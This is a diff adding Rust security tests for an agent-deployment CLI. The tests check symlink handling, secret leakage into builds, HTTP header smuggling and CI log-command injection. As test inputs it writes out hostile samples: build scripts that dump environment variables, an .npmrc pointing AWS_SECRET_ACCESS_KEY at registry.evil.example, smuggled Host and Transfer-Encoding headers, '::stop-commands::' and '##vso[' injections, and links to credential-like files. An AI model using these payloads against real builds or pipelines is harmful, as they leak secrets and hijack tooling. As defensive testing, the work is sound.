@@ -2,7 +2,7 @@
 
 use std::os::unix::fs::{MetadataExt, lchown, symlink};
 
-use crate::support::{World, lacked};
+use crate::support::{Sandbox, World, lacked, packages_available};
 
 const STRANGER: u32 = 4711;
 /// A configuration whose token comes from a program, which leaves a file behind when it ran.
@@ -233,4 +233,387 @@ fn a_configuration_sends_no_secret_of_the_machine_away() {
     }
     let seen = recorder.seen();
     assert!(seen.is_empty(), "{seen:?}");
+}
+
+/// What a stranger's link leads to: a folder with files, whose every byte must stay as it is.
+struct Outside {
+    before: std::collections::BTreeMap<std::path::PathBuf, Option<Vec<u8>>>,
+}
+
+impl Outside {
+    /// Makes `project/link` a link to `outside/target`.
+    fn of(world: &World, links: &[(&str, &str)]) -> Self {
+        let outside = world.path("tmp/outside");
+        std::fs::create_dir_all(outside.join("folder")).unwrap();
+        for file in ["file", "folder/session-DEFAULT", "folder/Dockerfile"] {
+            std::fs::write(outside.join(file), "canary-of-the-user\n").unwrap();
+        }
+        for (link, target) in links {
+            let link = world.project().join(link);
+            std::fs::create_dir_all(link.parent().unwrap()).unwrap();
+            symlink(outside.join(target), link).unwrap();
+        }
+        Self { before: Self::look(world) }
+    }
+
+    fn look(world: &World) -> std::collections::BTreeMap<std::path::PathBuf, Option<Vec<u8>>> {
+        world.tree().into_iter().filter(|(path, _)| path.starts_with(world.path("tmp/outside"))).collect()
+    }
+
+    #[track_caller]
+    fn check(&self, world: &World, what: &str) {
+        assert_eq!(Self::look(world), self.before, "{what}");
+    }
+}
+
+#[test]
+fn configure_writes_through_no_link() {
+    let configure = ["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"];
+    let force = ["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2", "--force"];
+    for (link, target) in [
+        (FILE, "new.yaml"),
+        (FILE, "file"),
+        (".bedrock_agentcore", "folder"),
+        (".bedrock_agentcore", "new"),
+        (".bedrock_agentcore/a", "folder"),
+        (".bedrock_agentcore/a/Dockerfile", "new"),
+        (".bedrock_agentcore/a/Dockerfile", "file"),
+        (".dockerignore", "new"),
+        (".dockerignore", "file"),
+    ] {
+        for command in [&configure[..], &force[..]] {
+            let world = World::new();
+            world.write("agent.py", "app = 1\n").write("requirements.txt", "");
+            let outside = Outside::of(&world, &[(link, target)]);
+            let run = world.agentcore(command).run();
+            outside.check(&world, &format!("{link} -> {target}: {run}"));
+            assert!(!format!("{run}").contains("canary"), "{run}");
+            assert!(world.project().join(link).is_symlink(), "the link is not ours to replace\n{run}");
+            // A file of the user's in that place is not written over either.
+            let is_kept = link == ".dockerignore" || (link.ends_with("Dockerfile") && command.len() == configure.len());
+            if !is_kept {
+                let run = run.code(2).says("symbolic link").says(target);
+                assert!(link == FILE || !world.project().join(FILE).exists(), "half done\n{run}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_configuration_that_is_a_link_is_read_and_not_written() {
+    let world = World::new().with_credentials();
+    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
+    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
+    std::fs::create_dir(world.project().join("kept")).unwrap();
+    std::fs::rename(world.project().join(FILE), world.project().join("kept/real.yaml")).unwrap();
+    symlink("kept/real.yaml", world.project().join(FILE)).unwrap();
+    let before = world.read("kept/real.yaml");
+    world.agentcore(&["configure", "show"]).run().code(0);
+    for command in [
+        &["configure", "set-default", "a"][..],
+        &["configure", "-ni", "-e", "agent.py", "-n", "b"],
+        &["launch"],
+        &["destroy", "--force"],
+        &["identity", "token", "--token-command", "/bin/sh -c 'echo a.b.c'", "--save"],
+    ] {
+        let run = world.agentcore(command).run();
+        assert_eq!(world.read("kept/real.yaml"), before, "{run}");
+        // To set what is set already changes nothing.
+        if command.get(1) != Some(&"set-default") {
+            run.code(2).says("symbolic link").says("--config").says("kept/real.yaml");
+        }
+    }
+    world.agentcore(&["configure", "show", "--config", "kept/real.yaml"]).run().code(0);
+}
+
+#[test]
+fn what_set_up_and_sessions_write_stays_in_the_project() {
+    let sandbox = Sandbox::start(World::new(), &["--runner", "process"]);
+    let stores = [".agentcore_identity_cognito_user.json", ".agentcore_identity_user.env"];
+    let links = [(".gitignore", "file"), (stores[0], "file"), (stores[1], "new")];
+    let outside = Outside::of(&sandbox, &links[..1]);
+    let setup = sandbox.agentcore(&["identity", "setup-cognito", "--pool-name", "links"]).run().code(0);
+    outside.check(&sandbox, &format!("{setup}"));
+    setup.says(".gitignore").says("symbolic link");
+    // A second run finds links in the place of what it wrote.
+    for (link, target) in &links[1..] {
+        std::fs::remove_file(sandbox.project().join(link)).unwrap_or_default();
+        symlink(sandbox.path("tmp/outside").join(target), sandbox.project().join(link)).unwrap();
+    }
+    let again = sandbox.agentcore(&["identity", "setup-cognito", "--pool-name", "links"]).run();
+    outside.check(&sandbox, &format!("{again}"));
+    assert!(!format!("{again}").contains("canary"), "{again}");
+}
+
+#[test]
+fn what_a_link_leads_to_is_quoted_nowhere() {
+    let world = World::new();
+    for (text, name) in [
+        ("root:canary1:19000:0:99999:7:::\nbin:*:canary2::\n", "shadow"),
+        ("[default]\naws_access_key_id = canary1\naws_secret_access_key = canary2\n", "credentials"),
+        ("{\"auths\": {\"canary1\": {\"auth\": \"canary2\"}}}\n", "config.json"),
+        ("default_agent: [canary1]\nagents: {canary2: 3}\ncanary3: 1\n", "settings.yaml"),
+        ("agents:\n  a:\n    name: a\n    entrypoint: a.py\n    canary1: canary2\n", "valid.yaml"),
+        ("-----BEGIN canary1 PRIVATE KEY-----\ncanary2\n", "key"),
+    ] {
+        let target = world.path("home").join(name);
+        std::fs::write(&target, text).unwrap();
+        let _ = std::fs::remove_file(world.project().join(FILE));
+        symlink(&target, world.project().join(FILE)).unwrap();
+        world.write("agent.py", "app = 1\n").write("requirements.txt", "");
+        for command in [
+            &["status"][..],
+            &["configure", "list"],
+            &["launch", "-v"],
+            &["identity", "token", "-o", "json"],
+            &["configure", "-ni", "-e", "agent.py"],
+            &["configure", "list", "--config", FILE],
+        ] {
+            let run = world.agentcore(command).run();
+            assert!(!format!("{run}").contains("canary"), "{run}");
+            // The others may be read as configurations without agents.
+            if ["credentials", "settings.yaml"].contains(&name) {
+                assert_eq!(run.code, Some(2), "{run}");
+            }
+        }
+        if name == "settings.yaml" {
+            // Named, it is the user's own file, and they learn what is wrong with it.
+            world.agentcore(&["status"]).run().says("--config").says(name);
+        }
+    }
+}
+
+#[test]
+fn a_call_takes_no_header_that_frames_or_signs_it() {
+    let mut world = World::new().with_credentials();
+    let recorder = crate::support::Recorder::start();
+    world.set("AWS_ENDPOINT_URL", recorder.url());
+    let arn = "arn:aws:bedrock-agentcore:us-west-2:123456789012:runtime/a-Ab3dEf6hIj";
+    for header in [
+        "Host: evil.example",
+        "content-length: 3",
+        "Transfer-Encoding: chunked",
+        "Expect: 100-continue",
+        "CONNECTION: close",
+        "Keep-Alive: 1",
+        "Upgrade: h2c",
+        "TE: trailers",
+        "Trailer: x",
+        "Proxy-Authorization: Basic eA==",
+        "Authorization: Bearer x",
+        "X-Amz-Date: 20200101T000000Z",
+        "x-amz-security-token: t",
+        "X-Amz-Content-Sha256: UNSIGNED-PAYLOAD",
+        "Sec-WebSocket-Key: x",
+        "X-Amzn-Bedrock-AgentCore-Runtime-Session-Id: x",
+        "Content-Type: text/plain",
+        " Host : evil.example",
+    ] {
+        for ws in [false, true] {
+            let command = world.agentcore(&["invoke", "{}", "--arn", arn, "-H", header]);
+            let command = if ws { command.args(&["--ws"]) } else { command };
+            let json = command.args(&["-o", "json"]).run().code(2).json();
+            assert_eq!(json["error"]["code"], "input.header", "{header}");
+        }
+    }
+    assert!(recorder.seen().is_empty(), "{:?}", recorder.seen());
+    for header in ["X-Mine: 1", "X-Amzn-Bedrock-AgentCore-Runtime-Custom-Mine: 1", "Traceparent: 00-1-2-01"] {
+        world.agentcore(&["invoke", "{}", "--arn", arn, "-H", header, "--timeout", "20"]).run();
+    }
+    assert!(!recorder.seen().is_empty());
+}
+
+#[test]
+fn what_is_printed_gives_no_orders() {
+    let world = World::new();
+    world.write(FILE, "agents:\n  a:\n    name: a\n    entrypoint: agent.py\n");
+    for name in
+        ["x\n::error::y", "x\r::stop-commands::y", "x\n\u{a0} ::add-mask::y", "##vso[task.setvariable variable=x]y"]
+    {
+        for verb in ["status", "launch", "destroy"] {
+            let text = world.agentcore(&[verb, "--agent", name]).run().code(5).stderr_text();
+            let commands = text.split(['\n', '\r']).filter(|line| line.trim_start().starts_with("::"));
+            assert_eq!(commands.count(), 0, "{text:?}");
+            assert!(!text.contains("##vso["), "{text:?}");
+        }
+    }
+    let evil = "x\u{9b}31m\u{85}\u{202e}\u{2066}\u{200f}\u{61c}\u{7f}##vso[y";
+    let run = world.agentcore(&["status", "--agent", evil, "-o", "json"]).run().code(5);
+    let text = run.stdout_text();
+    let raw = text.trim_end().chars().find(|c| c.is_control() || "\u{202e}\u{2066}\u{200f}\u{61c}".contains(*c));
+    assert_eq!((raw, text.contains("##vso[")), (None, false), "{text:?}");
+    assert!(run.json()["error"]["message"].as_str().unwrap().contains(evil), "{text:?}");
+}
+
+/// Variables that no code of a build may see, each with the canary as its value.
+const SECRETS: &[&str] = &[
+    "AWS_ACCESS_KEY_ID",
+    "AWS_SECRET_ACCESS_KEY",
+    "AWS_SESSION_TOKEN",
+    "AWS_CONTAINER_AUTHORIZATION_TOKEN",
+    "AGENTCORE_BEARER_TOKEN",
+    "BEDROCK_AGENTCORE_BEARER_TOKEN",
+    "AGENTCORE_CLIENT_SECRET",
+    "RUNTIME_CLIENT_SECRET",
+    "RUNTIME_PASSWORD",
+    "IDENTITY_CLIENT_SECRET",
+    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
+    "GITHUB_TOKEN",
+    "CI_JOB_TOKEN",
+    "OPENAI_API_KEY",
+    "SOME_SECRET_OF_THE_JOB",
+];
+
+/// Runs a build with all of them set, and gives what the code in it saw.
+fn surroundings(world: &World, args: &[&str], dump: &std::path::Path) -> (crate::support::Run, String) {
+    let mut command =
+        world.agentcore(args).var("KEPT_FOR_THE_BUILD", "yes").var("AGENTCORE_BUILD_ENV", "KEPT_FOR_THE_BUILD");
+    for name in SECRETS {
+        command = command.var(name, "canary-of-the-machine");
+    }
+    let run = command.run();
+    let seen = std::fs::read_to_string(dump).unwrap_or_else(|_| panic!("the code never ran\n{run}"));
+    assert!(!seen.contains("canary-of-the-machine"), "{seen}");
+    assert!(seen.contains("PATH") && seen.contains("KEPT_FOR_THE_BUILD"), "{seen}");
+    (run, seen)
+}
+
+#[test]
+fn a_packages_own_build_sees_no_secret() {
+    if !packages_available() {
+        return;
+    }
+    let mut world = World::new();
+    world.set("AGENTCORE_BASE_IMAGE", "scratch");
+    let dump = world.path("tmp/dump");
+    world.write("agent.py", "import lib\n").write("requirements.txt", "./lib\n").write("lib/lib.py", "");
+    let setup = format!(
+        "import os\nfrom setuptools import setup\nopen({:?}, 'a').write(repr(dict(os.environ)))\n\
+         setup(name='lib', version='1', py_modules=['lib'])\n",
+        dump.display().to_string()
+    );
+    world.write("lib/setup.py", &setup);
+    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
+    let build = ["build", "--builder", "native"];
+    let (run, _) = surroundings(&world, &build, &dump);
+    run.code(0);
+}
+
+#[test]
+fn scripts_of_node_packages_see_no_secret() {
+    let Some(mut world) = World::with_node() else { return };
+    world.set("AGENTCORE_BASE_IMAGE", "scratch");
+    let dump = world.path("tmp/dump");
+    let script = format!(
+        "require('fs').appendFileSync({:?}, JSON.stringify(process.env)); require('fs').mkdirSync('dist', {{recursive: true}}); \
+         require('fs').writeFileSync('dist/agent.js', '')",
+        dump.display().to_string()
+    );
+    world.write("src/agent.ts", "export {};\n").write("dump.js", &script);
+    world.write("tsconfig.json", r#"{"compilerOptions":{"rootDir":"src","outDir":"dist"},"include":["src"]}"#);
+    world.write(
+        "package.json",
+        r#"{"name":"agent","version":"1.0.0","private":true,"scripts":{"build":"node dump.js","postinstall":"node dump.js"}}"#,
+    );
+    world.npm("", &["install", "--package-lock-only", "--ignore-scripts"]);
+    world.write(".npmrc", "//registry.evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}\n");
+    world.agentcore(&["configure", "-ni", "-e", "src/agent.ts", "-n", "a", "--region", "us-west-2"]).run().code(0);
+    let build = ["build", "--builder", "native"];
+    let (run, seen) = surroundings(&world, &build, &dump);
+    // Installed with its scripts, and built.
+    assert!(seen.matches("\"PATH\"").count() >= 2, "{seen}\n{run}");
+    run.says("AWS_SECRET_ACCESS_KEY").says(".npmrc");
+}
+
+#[test]
+fn engines_git_and_their_kin_see_no_secret() {
+    for (program, requirement, args) in [
+        ("docker", "", ["build", "--builder", "engine"]),
+        ("git", "lib @ git+https://127.0.0.1:9/lib\n", ["build", "--builder", "native"]),
+    ] {
+        let mut world = World::new();
+        world.set("AGENTCORE_BASE_IMAGE", "scratch");
+        let dump = world.path("tmp/dump");
+        let script = format!("#!/bin/sh\nexport -p >> '{}'\nexit 1\n", dump.display());
+        let file = world.path("bin").join(program);
+        std::fs::write(&file, script).unwrap();
+        std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+        world.write("agent.py", "app = 1\n").write("requirements.txt", requirement);
+        world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
+        let (run, _) = surroundings(&world, &args, &dump);
+        assert_ne!(run.code, Some(0), "{run}");
+    }
+}
+
+#[test]
+fn a_credential_helper_gets_the_keys_of_its_cloud() {
+    let world = World::new();
+    let dump = world.path("tmp/dump");
+    std::fs::create_dir_all(world.path("home/.docker")).unwrap();
+    std::fs::write(world.path("home/.docker/config.json"), r#"{"credHelpers": {"r.example": "ecr-login"}}"#).unwrap();
+    let file = world.path("bin/docker");
+    std::fs::write(&file, format!("#!/bin/sh\nexport -p >> '{}'\necho 28.0.0\n", dump.display())).unwrap();
+    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
+    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
+    let command =
+        world.agentcore(&["build", "--builder", "engine"]).var("AWS_PROFILE", "mine").var("GITHUB_TOKEN", "canary");
+    command.run();
+    let seen = std::fs::read_to_string(dump).unwrap();
+    assert!(seen.contains("AWS_PROFILE") && !seen.contains("canary"), "{seen}");
+}
+
+/// Whether the process catches SIGINT by now.
+#[cfg(target_os = "linux")]
+fn catches_interrupt(pid: u32) -> bool {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+    let mask = status.lines().find_map(|line| line.strip_prefix("SigCgt:")).map_or("0", str::trim);
+    u64::from_str_radix(mask, 16).unwrap_or(0) & 2 != 0
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn an_interrupt_is_130_however_early_it_comes() {
+    let signal = |pid: u32| std::process::Command::new("kill").args(["-INT", &pid.to_string()]).status().unwrap();
+    for while_reading in [false, true] {
+        let world = World::new();
+        world.write("agent.py", "app = 1\n").write("requirements.txt", "");
+        // Reading it waits until somebody writes, so that the command cannot be over before the signal comes.
+        let fifo = world.project().join("fifo.yaml");
+        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
+        let configure = ["configure", "-ni", "-e", "agent.py", "-n", "a", "--config", "fifo.yaml"];
+        let mut child = world.agentcore(&configure).spawn();
+        while !catches_interrupt(child.id()) {
+            std::thread::yield_now();
+        }
+        if while_reading {
+            // Opening it to write waits for the reader.
+            let writer = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
+            signal(child.id());
+            drop(writer);
+        } else {
+            signal(child.id());
+        }
+        // Lets it go on wherever it reads by now.
+        while child.try_wait().unwrap().is_none() {
+            drop(std::fs::OpenOptions::new().read(true).write(true).open(&fifo));
+            std::thread::yield_now();
+        }
+        let status = child.wait().unwrap();
+        assert_eq!(status.code(), Some(130), "{status} {while_reading}");
+    }
+}
+
+#[test]
+fn a_killed_write_is_ignored_by_git_and_swept() {
+    let world = World::new();
+    world.write("agent.py", "app = 1\n").write("requirements.txt", "");
+    let left = ".agentcore-Ab3dE6";
+    world.write(&format!("{left}/.gitignore"), "*\n").write(&format!("{left}/new"), "half");
+    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(600);
+    std::fs::File::open(world.project().join(left)).unwrap().set_modified(old).unwrap();
+    world.agentcore(&["configure", "-ni", "-e", "agent.py", "-n", "a", "--region", "us-west-2"]).run().code(0);
+    let names =
+        || std::fs::read_dir(world.project()).unwrap().map(|item| item.unwrap().file_name().into_string().unwrap());
+    assert!(!names().any(|name| name.starts_with(".agentcore-")), "{:?}", names().collect::<Vec<_>>());
 }
